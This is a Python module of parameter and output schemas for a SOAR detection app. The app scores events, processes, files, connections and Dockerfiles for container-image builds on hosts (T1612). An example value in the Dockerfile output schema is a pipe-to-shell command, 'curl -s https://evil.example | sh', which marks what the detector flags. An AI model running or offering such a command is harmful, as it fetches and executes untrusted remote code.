"""What goes into the actions, and what comes out of them."""

from typing import Any, get_args

from pydantic import PrivateAttr, ValidationError, field_validator, model_validator
from soar_sdk.action_results import ActionOutput, OutputField
from soar_sdk.exceptions import ActionFailure
from soar_sdk.params import Param, Params

from t1612core import Kind

from .shapes import as_text

KINDS = ["auto", *get_args(Kind)]


class SafeParams(Params):
    """Parameters that always validate: where they do not, the SDK gives no result at all.

    What was wrong is kept, and ``check`` makes an ordinary failure of it.
    """

    _problem: str = PrivateAttr(default="")

    @model_validator(mode="wrap")
    @classmethod
    def _keep_the_problem(cls, value: Any, handler: Any) -> Any:
        if isinstance(value, dict):  # an empty box of the editor means that nothing is given
            value = {key: each for key, each in value.items() if each not in (None, "")}
        try:
            return handler(value)
        except ValidationError as error:
            made = cls.model_construct()
            made._problem = "; ".join(
                f"{'.'.join(map(str, each['loc']))}: {each['msg']}"
                for each in error.errors(include_url=False, include_input=False)
            )
            return made

    def check(self) -> None:
        """Raise ``ActionFailure`` where a parameter is missing or wrong, and say which."""
        if self._problem:
            raise ActionFailure(self._problem)


class ScoreEventParams(SafeParams):
    """One event."""

    event: str = Param(
        description="A JSON object: a row of Defender or Sentinel, or an artifact's cef",
        primary=True,
        cef_types=["t1612 event"],
    )
    kind: str = Param(
        description="What it tells of; auto looks at its fields", default="auto", value_list=KINDS
    )

    _text = field_validator("event", "kind", mode="before")(as_text)


class ScoreProcessParams(SafeParams):
    """A command line."""

    command_line: str = Param(
        description="The command line of the process",
        primary=True,
        cef_types=["process command line"],
    )
    file_name: str | None = Param(
        description="The program's file name; by default the command line's first word",
        default=None,
        cef_types=["process name"],
    )
    parent_name: str | None = Param(
        description="The file name of the program that started it",
        default=None,
        cef_types=["process name"],
    )
    host: str | None = Param(description="The host", default=None, cef_types=["host name"])
    user: str | None = Param(description="The account", default=None, cef_types=["user name"])


class ScoreFileParams(SafeParams):
    """A file that was written."""

    file_path: str = Param(
        description="The path of the file, or its folder where a file name is given",
        primary=True,
        cef_types=["file path"],
    )
    file_name: str | None = Param(
        description="The file's name; by default the path's last part",
        default=None,
        cef_types=["file name"],
    )
    host: str | None = Param(description="The host", default=None, cef_types=["host name"])


class ScoreNetworkParams(SafeParams):
    """A connection."""

    remote_ip: str = Param(
        description="The address that was connected to", primary=True, cef_types=["ip", "ipv6"]
    )
    remote_url: str | None = Param(
        description="The name or URL that was connected to",
        default=None,
        cef_types=["url", "domain"],
    )
    remote_port: int = Param(description="The port", default=443)
    process_name: str = Param(
        description="The file name of the program that connected",
        default="dockerd",
        cef_types=["process name"],
    )
    host: str | None = Param(description="The host", default=None, cef_types=["host name"])


def _min_score() -> Any:
    return Param(
        description="Count only findings from this score on; by default the asset's", default=None
    )


def _max_findings() -> Any:
    return Param(
        description=(
            "Return as many different findings at most and count the others; by default the asset's"
        ),
        default=None,
    )


def _window_minutes() -> Any:
    return Param(
        description="How far apart the steps of a chain may be, in minutes; 0 looks for no chains",
        default=60,
    )


def _write_report() -> Any:
    return Param(
        description="Put all findings and chains into the vault, as JSON lines", default=False
    )


class ScoreEventsParams(SafeParams):
    """Many events."""

    events: str = Param(
        description="Events: what a query returned, JSON, JSON lines or CSV",
        primary=True,
        cef_types=["t1612 events"],
    )
    min_score: int | None = _min_score()
    max_findings: int | None = _max_findings()
    window_minutes: int = _window_minutes()
    write_report: bool = _write_report()

    _text = field_validator("events", mode="before")(as_text)


class ScanVaultFileParams(SafeParams):
    """A file of events."""

    vault_id: str = Param(
        description=(
            "Vault ID of a file of events (JSON, JSON lines, CSV; plain or gzip); "
            "of several, with commas"
        ),
        primary=True,
        cef_types=["vault id"],
    )
    min_score: int | None = _min_score()
    max_findings: int | None = _max_findings()
    window_minutes: int = _window_minutes()
    write_report: bool = _write_report()


class ScoreContainerParams(SafeParams):
    """The artifacts of a container."""

    container_id: int | None = Param(
        description="The container; by default the one that the action runs in",
        primary=True,
        default=None,
        cef_types=["phantom container id"],
    )
    min_score: int | None = _min_score()
    max_findings: int | None = _max_findings()
    window_minutes: int = _window_minutes()
    write_report: bool = _write_report()
    page_size: int = Param(description="Artifacts that are asked for at a time", default=500)


class CorrelateParams(SafeParams):
    """Events to find chains in."""

    events: str | None = Param(
        description="Events: what a query returned, JSON, JSON lines or CSV",
        primary=True,
        default=None,
        cef_types=["t1612 events"],
    )
    vault_id: str | None = Param(
        description="Or the vault ID of a file of events; of several, with commas",
        default=None,
        cef_types=["vault id"],
    )
    window_minutes: int = Param(
        description="How far apart the steps of a chain may be, in minutes", default=60
    )
    max_chains: int = Param(
        description="Return as many chains at most; the others are counted", default=100
    )

    _text = field_validator("events", mode="before")(as_text)


class ScoreDockerfileParams(SafeParams):
    """A Dockerfile."""

    content: str | None = Param(
        description="The content of the Dockerfile", primary=True, default=None
    )
    vault_id: str | None = Param(
        description="Or the vault ID of a Dockerfile", default=None, cef_types=["vault id"]
    )


class Finding(ActionOutput):
    """An event and its score, and how often the same was found."""

    id: str = OutputField(example_values=["5f1c0a6f2b7d4e19"])
    count: int = OutputField(example_values=[1], column_name="Times")
    device: str = OutputField(
        cef_types=["host name"], example_values=["web-01"], column_name="Device"
    )
    account: str = OutputField(cef_types=["user name"], example_values=["www-data"])
    kind: str = OutputField(example_values=["process", "file", "network"], column_name="Kind")
    score: int = OutputField(example_values=[0, 3, 6, 10], column_name="Score")
    severity: str = OutputField(example_values=["high"])
    verdict: str = OutputField(
        example_values=["unknown", "none", "suspicious", "malicious"], column_name="Verdict"
    )
    matched: bool
    signals: list[str] = OutputField(example_values=["process.temp_source"], column_name="Signals")
    detail: str = OutputField(
        cef_types=["process command line", "file path", "url"],
        example_values=["docker build --no-cache /tmp/x"],
        column_name="Detail",
    )
    time: str = OutputField(example_values=["2026-03-02T08:06:41+00:00"])
    last_time: str = OutputField(example_values=["2026-03-02T09:06:41+00:00"])
    remote_ip: str = OutputField(cef_types=["ip"], example_values=["203.0.113.7"])
    remote_url: str = OutputField(cef_types=["url", "domain"], example_values=["evil.example"])
    rule: str = OutputField(example_values=["image_build"])
    profile: str = OutputField(example_values=["hardened"])
    source_index: int = OutputField(example_values=[0])
    artifact_id: int = OutputField(cef_types=["phantom artifact id"], example_values=[42])


class Chain(ActionOutput):
    """Steps on one host that belong together."""

    id: str = OutputField(example_values=["5f1c0a6f2b7d4e19"])
    verdict: str = OutputField(example_values=["build", "build-then-deploy"], column_name="Verdict")
    score: int = OutputField(example_values=[9], column_name="Score")
    severity: str = OutputField(example_values=["high"], column_name="Severity")
    confidence: str = OutputField(example_values=["high"])
    device: str = OutputField(
        cef_types=["host name"], example_values=["web-01"], column_name="Device"
    )
    accounts: list[str] = OutputField(cef_types=["user name"], example_values=["root"])
    start: str = OutputField(example_values=["2026-03-02T08:06:41+00:00"])
    end: str = OutputField(example_values=["2026-03-02T08:07:20+00:00"])
    steps: int = OutputField(example_values=[3], column_name="Steps")
    stages: list[str] = OutputField(example_values=["build"])
    techniques: list[str] = OutputField(example_values=["T1612"])
    narrative: str = OutputField(example_values=["root built an image"], column_name="Narrative")


class DockerfileLine(ActionOutput):
    """What one instruction of a Dockerfile does."""

    signal: str = OutputField(example_values=["dockerfile.pipe_to_shell"], column_name="Signal")
    weight: int = OutputField(example_values=[2], column_name="Weight")
    line: int = OutputField(example_values=[2], column_name="Line")
    text: str = OutputField(
        example_values=["curl -s https://evil.example | sh"], column_name="Text"
    )


class DockerfileSummary(ActionOutput):
    """What a Dockerfile scores."""

    score: int = OutputField(example_values=[3])
    matched: bool
    verdict: str = OutputField(example_values=["suspicious"])


class Summary(ActionOutput):
    """The counts of a run, to branch on."""

    events: int = OutputField(example_values=[1000])
    scored: int = OutputField(example_values=[1000])
    skipped: int = OutputField(example_values=[0])
    findings: int = OutputField(example_values=[3])
    returned: int = OutputField(example_values=[3])
    suppressed: int = OutputField(example_values=[0])
    max_score: int = OutputField(example_values=[10])
    severity: str = OutputField(example_values=["high"])
    verdict: str = OutputField(example_values=["unknown", "none", "suspicious", "malicious"])
    chains: int = OutputField(example_values=[1])
    chain_verdict: str = OutputField(example_values=["build", "build-then-deploy"])
    top_device: str = OutputField(cef_types=["host name"], example_values=["web-01"])
    complete: bool
    warning: str = OutputField(example_values=["3 of 1,000 events not scored; the first: …"])
    report_vault_id: str = OutputField(cef_types=["vault id"], example_values=["da39a3ee"])
